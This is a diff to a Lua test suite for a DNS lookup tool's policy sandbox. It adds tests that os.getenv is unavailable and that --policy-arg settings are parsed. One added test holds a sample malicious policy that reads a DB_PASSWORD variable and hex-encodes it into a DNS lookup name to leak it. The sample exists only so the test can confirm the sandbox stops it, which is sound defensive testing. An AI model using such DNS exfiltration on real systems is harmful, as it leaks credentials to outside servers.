@@ -107,7 +107,6 @@ describe("srv-run's policy sandbox", function()
                 local srv = require "srv"
                 assert(not pcall(require, "srv.names"))
                 assert(srv.resolver == nil and srv.spawn == nil)
-                assert(os.getenv("HOME") ~= nil or true)
                 assert(string.format("%d", 1) == "1" and math.max(1, 2) == 2 and #table.pack(1, 2) == 2)
                 local is_server2 = srv.matcher("SERVER2.example.net.")
                 return srv.chain(srv.policy { pin = "backup.example.net" }, function(c)
@@ -121,6 +120,50 @@ describe("srv-run's policy sandbox", function()
                 end)
             ]])
             assert.same({ 0, "backup.example.net.", 4 }, { r.code, targets(r.stdout)[1], #targets(r.stdout) }, r.stderr)
+        end)
+
+        it("gives a policy no environment: os.getenv is not there", function()
+            -- the attack: a secret hex-encoded into a lookup name reaches the DNS server
+            local r = srv_run({ "lookup", NAME, "--zone", ZONE, "--policy", write_file([[
+                return function(c, ctx)
+                    local secret = os.getenv("DB_PASSWORD")
+                    ctx.resolver:lookup("_x._tcp." .. secret:gsub(".", function(ch)
+                        return string.format("%02x", ch:byte()) end) .. ".example.net")
+                    return c
+                end]]) }, { env = { DB_PASSWORD = "hunter2" } })
+            assert.equal(1, r.code, r.stderr)
+            assert.truthy(r.stderr:find("attempt to call a nil value (field 'getenv')", 1, true), r.stderr)
+            assert.falsy((r.stdout .. r.stderr):find("68756e74657232", 1, true))
+            local keys = with_policy("for k in pairs(os) do print('os.' .. k) end return function(c) return c end")
+            assert.equal(0, keys.code, keys.stderr)
+            assert.same({ "os.clock", "os.date", "os.difftime", "os.time" }, (function()
+                local list = {}
+                for k in keys.stderr:gmatch("os%.%w+") do list[#list + 1] = k end
+                table.sort(list)
+                return list
+            end)())
+        end)
+
+        it("gives the file the --policy-arg settings as its argument, sandboxed or not", function()
+            for _, extra in ipairs { {}, { "--no-sandbox" } } do
+                local r = with_policy([[
+                    local settings = ...
+                    local say = io and function(...) io.stderr:write(table.concat({ ... }, "\t"), "\n") end or print
+                    say("pin=" .. tostring(settings.pin), "x=" .. tostring(settings.x))
+                    return require("srv").policy { pin = settings.pin }]],
+                    "--policy-arg", "pin=backup.example.net", "--policy-arg", "x=a=b", table.unpack(extra))
+                assert.equal(0, r.code, r.stderr)
+                assert.truthy(r.stderr:find("pin=backup.example.net\tx=a=b"), r.stderr)
+                assert.equal("backup.example.net.", targets(r.stdout)[1])
+            end
+            local none = with_policy("assert(type(...) == 'table' and next(...) == nil) return function(c) return c end")
+            assert.equal(0, none.code, none.stderr)
+            for _, words in ipairs {
+                { "--policy-arg", "pin" }, { "--policy-arg", "=x" }, { "--policy-arg", "a=1", "--policy-arg", "a=2" },
+            } do
+                assert_usage_error(with_policy("return function(c) return c end", table.unpack(words)), "--policy-arg")
+            end
+            assert_usage_error(srv_run { "lookup", NAME, "--zone", ZONE, "--policy-arg", "a=1" }, "--policy-arg needs --policy")
         end)
 
         it("runs the file with all of Lua and no budget with --no-sandbox", function()
